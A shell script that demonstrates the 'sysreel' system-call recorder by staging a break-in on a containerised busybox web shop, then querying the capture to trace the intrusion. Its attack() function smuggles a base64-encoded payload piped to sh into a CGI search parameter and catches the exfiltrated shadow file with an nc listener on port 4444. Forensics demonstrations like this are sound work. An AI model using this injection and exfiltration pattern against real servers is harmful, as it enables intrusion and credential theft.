#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A small but real incident in a container of its own, recorded and told by sysreel.
cd "$(dirname "$0")/.." || exit 1
here=$(pwd -P)
cd "$OLDPWD" || exit 1

usage()
{
	cat <<END
Usage: demo/run.sh [--output FILE] [--no-docker] [--sysreel PATH]

Starts a web server in a container, records it with sysreel while it is broken into, and shows
how the recording tells the story. Needs root. Only the capture file stays.

  --output FILE    the capture (default: incident.reel in this folder)
  --no-docker      make the container with cgroups and namespaces alone
  --sysreel PATH   the program (default: \$SYSREEL, or the one that was built here)
END
}

die()
{
	echo "demo: $*" >&2
	exit 2
}

output=incident.reel
want_docker=yes
sysreel=${SYSREEL:-$here/${B:-build}/sysreel}
while [ $# -gt 0 ]; do
	case $1 in
	--output | -o) output=${2:?"--output wants a file"} && shift ;;
	--output=*) output=${1#*=} ;;
	--sysreel) sysreel=${2:?"--sysreel wants a path"} && shift ;;
	--no-docker) want_docker=no ;;
	--help | -h) usage && exit 0 ;;
	*) usage >&2 && exit 2 ;;
	esac
	shift
done

[ -x "$sysreel" ] || die "$sysreel is not there; build it first with: make"
[ "$(id -u)" = 0 ] || die "recording and containers need root; try: sudo make demo"

# shellcheck source=demo/dockerd.sh
. "$here/demo/dockerd.sh"

# ---- what has been started, to be ended whatever happens ----

work=$(mktemp -d "${TMPDIR:-/tmp}/sr-demo.XXXXXX") || exit 1
recorder=
listener=
name=
visitor=
image=
cgroup=
init=

stop_recorder()
{
	[ -n "$recorder" ] || return 0
	kill -TERM "$recorder" 2>/dev/null
	wait "$recorder"
	recorder_status=$?
	recorder=
	return "$recorder_status"
}

remove_containers()
{
	[ -z "$visitor" ] || docker rm -f "$visitor" >/dev/null 2>&1
	[ -z "$name" ] || docker rm -f "$name" >/dev/null 2>&1
	visitor=
	name=
}

clean()
{
	trap '' INT TERM HUP PIPE
	stop_recorder >/dev/null 2>&1
	# It listens outside the container and does not end with it; nc is its child.
	[ -z "$listener" ] || pkill -P "$listener" 2>/dev/null
	remove_containers
	[ -z "$image" ] || docker rmi -f "$image" >/dev/null 2>&1
	if [ -n "$init" ]; then
		kill -9 "$init" 2>/dev/null
		wait "$init" 2>/dev/null
	fi
	dockerd_stop
	remove_cgroup
	rm -rf "$work"
}
trap clean EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP
trap 'exit 141' PIPE

# ---- the container ----

make_root()
{
	dockerd_rootfs "$work/root" || die "$dockerd_why"
	cp -R "$here/demo/incident/srv/." "$work/root/srv/"
	# shellcheck disable=SC2016
	printf '%s\n' 'root:$6$Zk0pQ1$notarealhashbutlooksthepart:19700:0:99999:7:::' \
		>"$work/root/etc/shadow"
	chmod 600 "$work/root/etc/shadow"
	chmod 1777 "$work/root/tmp"
}

web_server='exec httpd -f -p 8080 -h /srv'

# A name that no container of the machine has.
free_name()
{
	free=$1
	docker inspect "$free" >/dev/null 2>&1 && free=sysreel-demo-$1-$$
	return 0
}

# The machine's own daemon if it answers, else one of our own.
start_docker()
{
	command -v docker >/dev/null || return 1
	if ! docker version >/dev/null 2>&1; then
		mkdir "$work/docker"
		dockerd_start "$work/docker" || return 1
	fi
	image=sysreel-demo:$$
	tar -C "$work/root" -c . | docker import - "$image" >/dev/null 2>&1 || return 1
	free_name web
	name=$free
	docker run -d --name "$name" --hostname web --network none "$image" \
		/bin/sh -c "$web_server" >/dev/null 2>&1 || return 1
	free_name visitor
	visitor=$free
	docker run -d --name "$visitor" --network "container:$name" "$image" \
		/bin/sleep 600 >/dev/null 2>&1 || return 1
	target="--container $name"
	kind="a Docker container called \"$name\""
}

plain_init='mount -t proc proc /proc; mount -t tmpfs dev /dev
	mknod -m 666 /dev/null c 1 3; mknod -m 666 /dev/urandom c 1 9
	hostname web; ip link set lo up'

# A root folder, a cgroup and namespaces of its own: what a container is made of.
start_plain()
{
	mnt=$(cgroup_mounts cgroup2 | head -n 1)
	[ -n "$mnt" ] || die "there is no cgroup v2 file system on this machine"
	cgroup=$mnt/sysreel-demo-$$
	mkdir "$cgroup" || die "the cgroup $cgroup cannot be made"
	# shellcheck disable=SC2016
	sh -c 'echo $$ >"$1/cgroup.procs" && exec env -i PATH="$PATH" HOME=/root unshare \
		--mount --pid --net --uts --ipc --fork --kill-child chroot "$2" /bin/sh -c "$3"' \
		sh "$cgroup" "$work/root" "$plain_init; $web_server" >"$work/container.log" 2>&1 &
	init=$!
	target="--cgroup $cgroup"
	kind="a container made of a cgroup and namespaces"
}

remove_cgroup()
{
	[ -n "$cgroup" ] || return 0
	n=0
	while ! rmdir "$cgroup" 2>/dev/null && [ -d "$cgroup" ] && [ $n -lt 50 ]; do
		sleep 0.1
		n=$((n + 1))
	done
}

# outside COMMAND...: run it where visitors are: on the web server's network, but not in its
# container, so that it is not recorded
outside()
{
	if [ -n "$visitor" ]; then
		docker exec "$visitor" "$@"
		return
	fi
	pid=$(cat "/proc/$init/task/$init/children")
	nsenter --target "${pid%% *}" --net -- "$work/root/bin/busybox" "$@"
}

get()
{
	outside wget -q -O - "http://127.0.0.1:8080$1"
}

start_container()
{
	make_root
	if [ $want_docker = no ] || ! start_docker; then
		[ $want_docker = no ] || echo "   (no Docker here: ${dockerd_why:-it does not work})"
		remove_containers
		start_plain
	fi
	n=0
	until get / >/dev/null 2>&1; do
		n=$((n + 1))
		[ $n -lt 600 ] || die "the web server in the container does not answer"
		sleep 0.1
	done
}

# ---- recording, and what is recorded ----

start_recorder()
{
	rm -f "$output"
	# shellcheck disable=SC2086
	"$sysreel" record -w "$output" -s 400 $target 2>"$work/record.log" &
	recorder=$!
	n=0
	until [ -s "$output" ]; do
		n=$((n + 1))
		if ! kill -0 $recorder 2>/dev/null || [ $n -gt 600 ]; then
			cat "$work/record.log" >&2
			die "the recorder does not start; sysreel doctor says what is missing"
		fi
		sleep 0.1
	done
	sleep 0.3
}

# percent-encoding of what would not survive in a URL
encode()
{
	sed 's/%/%25/g; s/+/%2B/g; s/ /%20/g; s/&/%26/g; s/#/%23/g; s/;/%3B/g; s/|/%7C/g'
}

visit()
{
	get / >/dev/null
	get /cgi-bin/status >/dev/null
	get '/cgi-bin/search?q=lamp' >/dev/null
}

# Port 4444 is 115C there, and 0A says that it is listened to.
listens()
{
	outside cat /proc/net/tcp /proc/net/tcp6 2>/dev/null | grep -q ':115C 0*:0000 0A'
}

attack()
{
	payload=$(grep -v '^#' "$here/demo/incident/payload.sh" | base64 -w 0)
	injected=$(echo "x /dev/null; echo $payload | base64 -d | sh #" | encode)
	# the attacker's machine; on the container's own loopback, so that nothing leaves it
	outside nc -l -p 4444 >"$work/stolen" 2>/dev/null &
	listener=$!
	n=0
	until listens; do
		n=$((n + 1))
		[ $n -lt 600 ] || die "the attacker's machine does not listen"
		sleep 0.1
	done
	get "/cgi-bin/search?q=$injected" >/dev/null
	wait $listener
	listener=
	grep -q '^root:' "$work/stolen" || die "the attack did not work; nothing was stolen"
}

# ---- telling ----

if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
	bold=$(printf '\033[1m')
	plain=$(printf '\033[0m')
else
	bold=
	plain=
fi

heading()
{
	printf '\n%s%s%s\n' "$bold" "$*" "$plain"
}

# The command as a person would type it.
quoted()
{
	for word; do
		case $word in
		*[!A-Za-z0-9_./=:-]*) printf " '%s'" "$word" ;;
		*) printf ' %s' "$word" ;;
		esac
	done
}

# show LINES COMMAND [ARGUMENTS...]: the command and the first lines of what it prints
show()
{
	lines=$1
	shift
	printf '%s$ sysreel%s%s\n' "$bold" "$(quoted "$@")" "$plain"
	"$sysreel" "$@" >"$work/out" 2>"$work/err" || {
		cat "$work/out" "$work/err" >&2
		die "sysreel $1 failed"
	}
	head -n "$lines" "$work/out" | cut -c 1-"${COLUMNS:-160}"
	n=$(($(wc -l <"$work/out") - lines))
	[ $n -le 0 ] || echo "... and $n more lines"
}

heading "1. A web server is started in a container"
start_container
echo "   It is $kind; in it, busybox httpd serves a lamp shop."

heading "2. sysreel records the container"
echo "   sysreel record -w $output -s 400 $target"
start_recorder
visit
echo "   Visitors looked at the shop and searched for a lamp."
attack
echo "   One visitor typed a shell command into the search field: the shop was broken into."
stop_recorder || die "the recorder failed: $(tail -n 3 "$work/record.log")"
[ -s "$work/record.log" ] && sed 's/^/   /' "$work/record.log" | tr '\r' '\n' | tail -n 3

heading "3. What does the recording hold?"
show 30 info "$output"

heading "4. What was read that should not have been? The file with the passwords:"
show 10 read "$output" 'proc.name=cat and evt.args contains /etc/shadow'

heading "5. What was dropped in a hidden folder, made executable and run?"
show 12 read "$output" -p '%evt.time %proc.name %evt.type %evt.args' \
	'evt.type in (openat, chmod, execve) and evt.args contains /tmp/.x'

heading "6. Where did the dropped program connect, and what did it send there?"
show 12 read "$output" -A 'proc.exepath startswith /tmp/.x and evt.type in (connect, write)'

heading "7. Which files moved the most bytes?"
show 14 read "$output" -c topfiles_bytes

# How the reader of this can call the program.
typed=sysreel
[ "$(readlink -f "$(command -v sysreel)")" = "$(readlink -f "$sysreel")" ] ||
	typed=${sysreel#"$PWD/"}

heading "The recording is yours: $output"
cat <<END
Try on it:
  $typed read $output 'evt.type=execve'
        every command that ran in the container, and who started it
  $typed read $output -A 'proc.name=httpd and evt.type in (read, recvfrom)'
        the requests as the web server got them; one of them is the attack
  $typed read $output -c topprocs_net
        which processes used the network, and how much
END
